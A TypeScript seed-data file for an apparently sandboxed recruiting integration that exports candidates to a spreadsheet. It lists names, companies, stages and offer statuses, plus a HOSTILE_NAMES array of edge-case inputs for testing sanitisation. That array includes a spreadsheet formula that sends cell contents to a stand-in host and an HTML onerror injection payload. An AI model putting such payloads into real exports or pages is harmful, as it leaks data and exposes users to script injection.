/** Names, places and stages the seeded sandbox data is made of. */
import type { Stage } from './types';

export const HIRE = 'https://hire.sandbox.lever.co';

/** Applicant-written strings that must reach the sheet as plain text, never as formulas or HTML. */
export const HOSTILE_NAMES = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+1-555-0100',
  '@SUM(A1:A9)',
  '-2+3',
  '=1+1',
  'Dwayne "The Rock" Johnson',
  'Comma, Person',
  'Multi\nLine Name',
  'Rocket 🚀 Emoji',
  '<img src=x onerror=alert(1)>',
  '\tTabbed Name',
  'Trailing Spaces   ',
  "'Quoted Start",
  'TRUE',
  '0012345',
  'Garbled Ã©Ã¨ Name',
];

export const FIRST = [
  'Dana',
  'Ravi',
  'Mei',
  'Lucas',
  'Amara',
  'Jonas',
  'Sofia',
  'Kwame',
  'Yuki',
  'Elena',
  'Omar',
  'Priya',
  'Liam',
  'Zara',
  'Mateo',
  'Ines',
];
export const LAST = [
  'Okafor',
  'Patel',
  'Chen',
  'Silva',
  'Mensah',
  'Berg',
  'Rossi',
  'Asante',
  'Tanaka',
  'Novak',
  'Haddad',
  'Iyer',
  'Walsh',
  'Ahmed',
  'Lopez',
  'Costa',
];
export const COMPANIES = [
  'Acme Corp',
  'Globex',
  'Initech',
  'Umbrella',
  'Hooli',
  'Stark Industries',
  'Wayne Enterprises',
  'State University',
];
export const CITIES = ['Lisbon', 'Berlin', 'New York', 'San Francisco', 'London', 'Toronto', 'Remote', ''];
export const TEAMS = ['Engineering', 'Sales', 'Design', 'People', 'Finance'];
export const TITLES = [
  'Backend Engineer',
  'Account Executive',
  'Product Designer',
  'Recruiter',
  'Financial Analyst',
  'Data Scientist',
  'Support Lead',
];
export const SOURCES = ['LinkedIn', 'Referral', 'Company website', 'AngelList', 'Indeed', 'Agency'];
export const ORIGINS = ['agency', 'applied', 'internal', 'referred', 'sourced', 'university'];
export const OFFER_STATUS = ['draft', 'approval-sent', 'approved', 'sent', 'sent-manually', 'opened', 'denied', 'signed'];

export const STAGES: Stage[] = [
  { id: 'lead-new', text: 'New lead', pipeline: 'lead', rank: 0, hasInterview: false },
  { id: 'lead-reached-out', text: 'Reached out', pipeline: 'lead', rank: 10, hasInterview: false },
  { id: 'lead-responded', text: 'Responded', pipeline: 'lead', rank: 20, hasInterview: false },
  { id: 'applicant-new', text: 'New applicant', pipeline: 'applicant', rank: 100, hasInterview: false },
  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000001', text: 'Recruiter screen', pipeline: 'screen', rank: 200, hasInterview: true },
  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000002', text: 'Phone interview', pipeline: 'screen', rank: 230.5, hasInterview: true },
  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000003', text: 'On-site interview', pipeline: 'onsite', rank: 300, hasInterview: true },
  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000004', text: 'Reference check', pipeline: 'onsite', rank: 350, hasInterview: false },
  { id: 'offer', text: 'Offer', pipeline: 'offer', rank: 400, hasInterview: false },
];
